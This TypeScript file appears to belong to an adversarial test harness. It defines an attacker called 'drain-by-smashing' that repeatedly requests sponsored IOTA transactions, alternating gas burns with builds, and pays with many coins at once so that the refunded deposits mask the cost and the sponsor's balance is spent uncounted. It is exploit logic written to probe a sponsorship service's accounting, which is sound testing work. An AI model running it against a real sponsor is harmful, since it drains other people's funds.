import { Ed25519Keypair } from '@iota/iota-sdk/keypairs/ed25519';
import { buildCarsProgram, burnProgram } from '../../../support/raw-transaction.js';
import type { Attacker } from '../attacker.js';

const LARGEST_BUDGET = 1_999_999_999;
/** Costs slightly less than the deposits of twenty smashed coins refund. */
const UNITS = 17_500;
const CARS = 8;

/** Pays with many coins at once: the deposits of the smashed coins hide the cost of the transaction. */
export const drainBySmashing: Attacker = {
  name: 'drain-by-smashing',
  aim: 'spend the sponsor’s balance uncounted',
  // A smaller budget would not be paid with many coins, and only such payments are hard to count.
  tokenLines: ['reserve: { coins: 60, budget: 60 IOTA }'],
  async run(_target, client) {
    const user = new Ed25519Keypair();
    let turn = 0;
    await client.repeat(150, async () => {
      turn += 1;
      const burns = turn % 2 === 0;
      const program = burns ? burnProgram(UNITS) : buildCarsProgram(user.toIotaAddress(), CARS);
      const gasBudget = burns ? LARGEST_BUDGET : 450_000_000;
      const reply = await client.sponsor(user, program, { gasBudget });
      if (reply === null) await client.pause(1_000);
    });
  },
};
